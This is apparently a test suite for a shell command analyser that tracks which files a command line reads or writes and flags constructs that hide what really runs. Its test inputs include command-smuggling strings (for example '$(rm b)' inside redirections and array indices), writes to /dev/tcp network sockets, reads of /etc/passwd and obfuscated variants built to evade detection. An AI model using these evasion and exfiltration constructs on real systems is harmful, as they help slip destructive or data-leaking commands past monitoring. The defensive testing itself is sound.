import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { readCommandLine } from '../../../src/host/command/command-line.ts'
import { withoutSecrets } from '../../../src/host/without-secrets.ts'
import { sampledRuns } from '../../helpers/sampled.ts'

const read = (text: string) => readCommandLine(text, { login: 'jane', home: '/home/jane' }).statements
const paths = (text: string) => {
  const statements = read(text)
  return {
    reads: [...new Set(statements.flatMap(({ reads }) => reads))],
    writes: [...new Set(statements.flatMap(({ writes }) => writes))],
  }
}
const isHidden = (text: string): boolean =>
  readCommandLine(text, { login: 'jane', home: '/home/jane', shell: 'bash' }).statements.some(
    ({ unknown }) => unknown.length > 0,
  )

// Looked for from each of them anew, the end of what they open took seconds.
it.each(['[', '{', '[a=', 'x=([ '])('tens of thousands of %s are read at once', (sign) => {
  expect(read(`echo ${sign.repeat(Math.floor(60_000 / sign.length))}`)).not.toHaveLength(0)
})

describe('what a command line does', () => {
  it.each([
    ['cat /etc/passwd', ['/etc/passwd'], []],
    ['cat notes', ['/home/jane/notes'], []],
    ['cat ~/notes', ['/home/jane/notes'], []],
    ["cat '~/notes'", ['**'], []],
    ['cat ~bob/notes', ['**'], []],
    ['cat /a/../b/./c', ['**'], []],
    ['cat ../x', ['/home/x'], []],
    ['cat $x', ['**'], []],
    ['cat /var/log/*', ['**', '/var/log'], []],
    ['cat /srv/[]', ['/srv/[]', '/srv'], []],
    ["cat /srv/'['[]", ['/srv/[[]', '/srv'], []],
    ['cat /srv/\\[[]', ['/srv/[[]', '/srv'], []],
    ['cat /srv/\\[a[]', ['/srv/[a[]', '/srv'], []],
    ['cat /srv/\\[a]', ['/srv/[a]'], []],
    ["cat /srv/'['a]", ['/srv/[a]'], []],
    ['echo "$x"[]', ['**'], []],
    ['cd /srv && cat x', ['/srv/x'], []],
    ['cd /srv; (cd /tmp; cat y); cat x', ['**'], []],
    ['cd x && cat y', ['**'], []],
    ['cd /srv; cat x', ['**'], []],
    ['cd /srv && true; cat x', ['**'], []],
    ['cd /srv && cd /tmp && cat x', ['/tmp/x'], []],
    ['sort < in > out', ['/home/jane/in'], ['/home/jane/out']],
    ['echo x >> /log', [], ['/log']],
    ['rm -r /a', [], ['/a', '/a/**']],
    ['rm /a', [], ['/a']],
    ['file /a', ['/a'], []],
    ['file "$x"', ['**'], ['**']],
    ['mkdir -p /a/b', [], ['/a/b']],
    ['cp /a /b', ['/a'], ['/b', '/b/a']],
    ['cp -r /a /b', ['/a', '/a/**'], ['/b', '/b/**', '/b/a', '/b/a/**', '**']],
    ['ls', ['/home/jane'], []],
    ['tee -', [], ['/home/jane/-']],
    ['rev -', ['/home/jane/-'], []],
    ['ls -', ['/home/jane/-'], []],
    ['rm -', [], ['/home/jane/-']],
    ['cat - x', ['/home/jane/x'], []],
    ['echo x > $HOME/log', [], ['**']],
    ['zgrep x*', ['**', '/home/jane'], ['**']],
    ['find /a -delete', ['/a', '/a/**'], ['/a', '/a/**']],
    ['dd if=/a of=/b', ['/a'], ['/b']],
    ["scp -t '/a b'", [], ['/a b', '/a b/**']],
    ['scp -f notes', ['/home/jane/notes', '/home/jane/notes/**'], []],
    ['rsync --server -logDtpre.iLsfxCIvu . /srv', [], ['/srv', '/srv/**']],
    ['git-upload-pack r', ['r', 'r/**', 'r.git', 'r.git/**'].map((path) => `/home/jane/${path}`), []],
    ["git-upload-pack '/srv/r/'", ['/srv/r', '/srv/r/**', '/srv/r.git', '/srv/r.git/**'], []],
    ["scp -f -- -x 'a b'", ['-x', '-x/**', 'a b', 'a b/**'].map((path) => `/home/jane/${path}`), []],
    ['scp -f a\\ b', ['/home/jane/a b', '/home/jane/a b/**'], []],
    ['cd /srv && cat x && cd /tmp && cat y', ['/srv/x', '/tmp/y'], []],
    ['true && cd /srv && cat x', ['/srv/x'], []],
    ['true || cd /srv && cat x', ['**'], []],
    ['cd /srv || true && cat x', ['**'], []],
    ['cd /srv && true || cat x', ['**'], []],
    ['true || true && cd /srv && cat x', ['**'], []],
    ['cd /srv && false && cd /home/jane && true; cat x', ['**'], []],
    ['cd /srv && false && cd /home/jane && true || cat x', ['**'], []],
    ['! cd /srv && cat x', ['**'], []],
    ['time cd /srv && cat x', ['**'], []],
    // The word behind it is the format.
    ['\\time --format echo rm f', [], ['/home/jane/f']],
    ['command cd /srv && cat x', ['**'], []],
    ['xargs -I{} cd /srv < /dev/null && cat x', ['**'], []],
    ['setsid -f cd /srv && cat x', ['**'], []],
    ['/usr/bin/cd /srv && cat x', ['**'], []],
    ['cd /srv & cat x', ['**'], []],
    ['for i in 1 2; do cat x; cd /srv; done', ['**'], []],
    ['while cat x; do cd /srv; done', ['**'], []],
    ['until cat x; do command cd /srv; done', ['**'], []],
    ['while true; do while cat x; do true; done; { cd /srv; }; done', ['**'], []],
    ['for i in 1 2; do cat < x; if true; then cd /srv; fi; done', ['**'], []],
    ['for i in 1 2 3; do cat x; ls / ; ls() { cd /srv; }; done', ['**', '/'], []],
    ['for i in 1 2; do cat x; done; cd /srv', ['/home/jane/x'], []],
  ])('%s', (text, reads, writes) => {
    expect(paths(text)).toEqual({ reads, writes })
    expect(isHidden(text)).toBe(false)
  })

  it.each([
    'rsync --server --sender -slogDtpre.iLsfxCIvu . /srv',
    'rsync --server -logDtpre.iLsfxC --log-file=/x . /srv',
    'rsync --server --daemon .',
    'rsync --server -logDtprRe.iLsfxC --no-implied-dirs . y',
    'rsync --server --sender -logDtpre.iLsfxC . --log-file=x y',
    'rsync --server --sender -logDtpre.iLsfxC . -L y',
    'rsync --server --sender -logDtpre.iLsfxC . y -L',
    'rsync --server --sender -logDtpre.iLsfxC . {x},a}',
    'scp -f {x},a}',
    'scp -f a{x}y,b}',
    'scp -f {1..2}',
    'scp -f a -v',
    'scp -f x=~/a',
    'scp -f [ab]',
    'scp -f !(a)',
    'scp -f "a"',
    'git-upload-pack {x},a}',
    'git-upload-pack r=~/a',
    'git-receive-pack x,{a}',
    'scp -t -S x /srv',
  ])('is not recognised as a transfer: %s', (text) => {
    const statements = read(text)
    expect(statements.every(({ kinds }) => kinds.join() === 'exec')).toBe(true)
    expect(statements.some(({ unknown, opaque }) => unknown.length + opaque.length > 0)).toBe(true)
  })

  it('takes a relative path for any path if the home directory is unknown', () => {
    const { statements } = readCommandLine('cat notes', { login: 'jane', home: undefined })
    expect(statements.flatMap(({ reads }) => reads)).toEqual(['**'])
  })

  it('takes what echo prints in double quotes for text', () => {
    const ansible =
      '( umask 77 && mkdir -p "` echo /home/jane/.ansible/tmp `"&& mkdir "$(echo /home/jane/.ansible/tmp/a-1)" )'
    expect(read(ansible).flatMap(({ unknown, opaque, writes }) => [...unknown, ...opaque, ...writes])).toEqual(
      expect.arrayContaining(['/home/jane/.ansible/tmp', '/home/jane/.ansible/tmp/a-1']),
    )
    expect(read(ansible).flatMap(({ writes }) => writes)).not.toContain('**')
  })

  it.each([
    'echo() { printf vault; }; cat "$(echo f)"',
    'cat "$(echo -e f)"',
    'cat "$(echo \'a b\')"',
    'cat "$(echo a; echo b)"',
    'cat "$(echo a >&2)"',
    'cat "$(x=1 echo a)"',
    'cat $(echo a)',
    'cat "$(echo ~)"',
    'cat "$(echo a*)"',
    'cat "$(\\echo a)"',
    'cat "~"',
    'cat "~/$(echo a)"',
    'cat "~$(echo /a)"',
  ])('does not trust echo if it, or its words, may be others: %s', (text) => {
    expect(read(text).flatMap(({ reads, unknown }) => [...reads, ...unknown])).not.toEqual([
      expect.stringMatching(/^\/home/),
    ])
  })

  it('each command of a line has its words', () => {
    expect(read('a "b c" | env X=1 d \'e\' && sudo -u bob f "$x"').map(({ argv }) => argv)).toEqual([
      ['a', 'b c'],
      [],
      ['d', 'e'],
      ['sudo', '-u', 'bob', 'f', null],
      ['f', null],
    ])
  })

  it.each([
    'eval x',
    '. ./x',
    '$x y',
    'sh',
    'sh script',
    'python3 -c x',
    'perl x',
    'LD_PRELOAD=x ls',
    'PATH=/tmp:$PATH ls',
    'ls |',
    "echo 'x",
    'ls\u0000rm',
    'ls\rrm x',
    '((rm))',
    '[[ a ]]',
    'echo ${!x}',
    "ls >&'a$(rm b)'",
    'ls >&"a\\$(rm b)"',
    'ls >&$x',
    'ls &>$x',
    'rm >&-victim',
    "'sed' () { :; }; sed -i d a",
    '"sed"() { :; }; sed -i d a',
    's\\ed() { :; }; sed -i d a',
    'a-b() { :; }; a-b',
    "REPLY=5; read -r <<< 'a[$(rm a)]'; echo $((REPLY))",
    // An index is arithmetic, wherever its value comes from.
    "read x <<< 'a[$(rm a)]'; b[x]=1",
    'read x < notes; b[x]+=1',
    'read x < notes; b=([x]=1)',
    "REPLY=5; echo 'a[$(rm a)]' | { read -r; echo $((REPLY)); }",
    'REPLY=a; read -r <<< /dev/tcp/127.0.0.1/9; echo a > $REPLY',
    'echo $((TERM)); TERM=5',
    'echo $((LC_ALL)); LC_ALL=5',
    'echo a > $LC_ALL',
    'echo a > $LANG; LANG=a',
    'echo a | xargs -I{} -n 2 rm',
    'echo a | xargs -n 2 -I{} rm',
    'echo a | xargs -I{} -L 1 rm',
    'echo a | xargs -I{} --max-lines rm',
    'echo a | xargs --replace --max-args=1 rm',
    'echo a | xargs -i -l rm',
    'find . -name -exec ! -exec rm {} \\;',
    'x=([y]=1)',
    'x+=([y]=1)',
    'x=([$y]=1)',
    'x=(["$y"]=1)',
    'x=({[y]=1,b})',
    'declare x=([y]=1)',
    'declare x=(a)',
    'x=(1); declare x="$y"',
    'x=(1); f() { local x="$y"; }; f',
    'read -a x; export x="$y"',
    'mapfile x; readonly x=$y',
    "x=(1); declare 'x=([0]=`rm a`)'",
    "declare 'x=(1)'",
    'rm {x}<()',
    "cat '\n'\\",
    'cat a\\',
    'cat a\\\\\\',
    "sh -c 'cat a\\'",
    'eval "cat a\\\\"',
    'rm {victim}<(id)',
    'echo {x}>(cat)',
    'rm a{x}<(id)b',
    'rm {x},a}',
    'rm a{x}y,victim}',
    'rm {$x},a}',
    'cat <{x},a}',
    'rm {x}..b,c}',
    'x=a; rm $\\\nx',
    'cat <\\\n<E\nE',
    'cat<<` f`\n` f',
    'echo ${ rm x; }',
    'echo ${| rm x; }',
    'IFS=3; chmod $$ a',
    "cat <<E\\n${x:-'$(rm a)'}\\nE",
    `echo "\${x:-'$(rm a)'}"`,
    `echo "\${x:-$'$(rm a)'}"`,
    'x=127.0.0.1; echo a >/dev/tcp/$x/9',
    'cat </dev/$x/127.0.0.1/9',
    'echo a > $(echo /dev/tcp/127.0.0.1/9)',
    'read x; echo a > "$x"',
    'x=/dev/tcp/127.0.0.1/9; echo a > $x',
    'x=/; echo a > ${x}dev/tcp/127.0.0.1/9',
    'x=/d; echo a > ${x}ev/tcp/127.0.0.1/9',
    'x=; echo a > $x/dev/tcp/127.0.0.1/9',
    'y=ev; echo a > $HOME/d$y/tcp/127.0.0.1/9',
    'echo a > $FOO/dev/tcp/127.0.0.1/9',
    'file -p a',
    'read IFS; chmod $$ a',
    'echo ${x@P}',
    'echo $((x))',
    'sudo -i',
    'env -S "rm x"',
    'find / -exec $x {} ;',
    'echo x > /dev/tcp/192.0.2.1/80',
    '',
    '# nothing',
    `echo ${'x'.repeat(70_000)}`,
  ])('is hidden: %j', (text) => {
    expect(isHidden(text)).toBe(true)
  })

  it.each([
    'rm() { :; }; unset rm; sed -i d a',
    'sed() { :; }; unset sed; sed -i d a',
    'sed() { unset sed; }; sed; sed -i d a',
    'sed() { :; }; command unset sed; sed -i d a',
    'sed() { :; }; command sed -i d a',
    'sed() { :; } & sed -i d a',
    'false && sed() { :; }; sed -i d a',
    '(sed() { :; }); sed -i d a',
  ])('a function may not be what runs: %s', (text) => {
    expect(read(text).at(-1)).toMatchObject({ argv: ['sed', '-i', 'd', 'a'], opaque: [expect.any(String)] })
  })

  it.each(['sed() { :; }; time sed -i d a', 'f() { :; }; ! time f'])('hides it from dash: %s', (text) => {
    const { statements } = readCommandLine(text, { login: 'jane', home: '/home/jane', shell: 'sh' })
    expect(statements.some(({ unknown }) => unknown.length > 0)).toBe(true)
  })

  it.each(['sed', 'f'])('a function that surely stands for %s is what was read with it', (name) => {
    expect(
      read(`${name}() { cat x; }; ${name} -i d a`).flatMap(({ unknown, opaque }) => [...unknown, ...opaque]),
    ).toEqual([])
  })

  it('gives facts for any text without failing, and names a refused program in it', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...`ab $(){}[]<>|&;"'\\\`#=*?~-/\n`) }), (text) => {
        expect(read(text).length).toBeGreaterThan(0)
      }),
      { numRuns: sampledRuns(500) },
    )
  })

  it('does not keep passwords and secrets', () => {
    const session = { masking: { columns: [], kinds: [] }, commitment: () => 'c' }
    for (const [text, kept] of [
      ['PGPASSWORD=hunter2 psql', 'PGPASSWORD=<secret c> psql'],
      ['mysql --password=hunter2 -u x', 'mysql --password=<secret c> -u x'],
      ['curl -H "Authorization: Bearer abc.def" x', 'curl -H "Authorization: Bearer <secret c>" x'],
      ['git clone https://me:hunter2@example.com/r', 'git clone https://me:<secret c>@example.com/r'],
      ['echo AKIAIOSFODNN7EXAMPLE', 'echo <secret c>'],
      ['ls -l /etc', 'ls -l /etc'],
    ] as const)
      expect(withoutSecrets(text, session)).toBe(kept)
  })
})
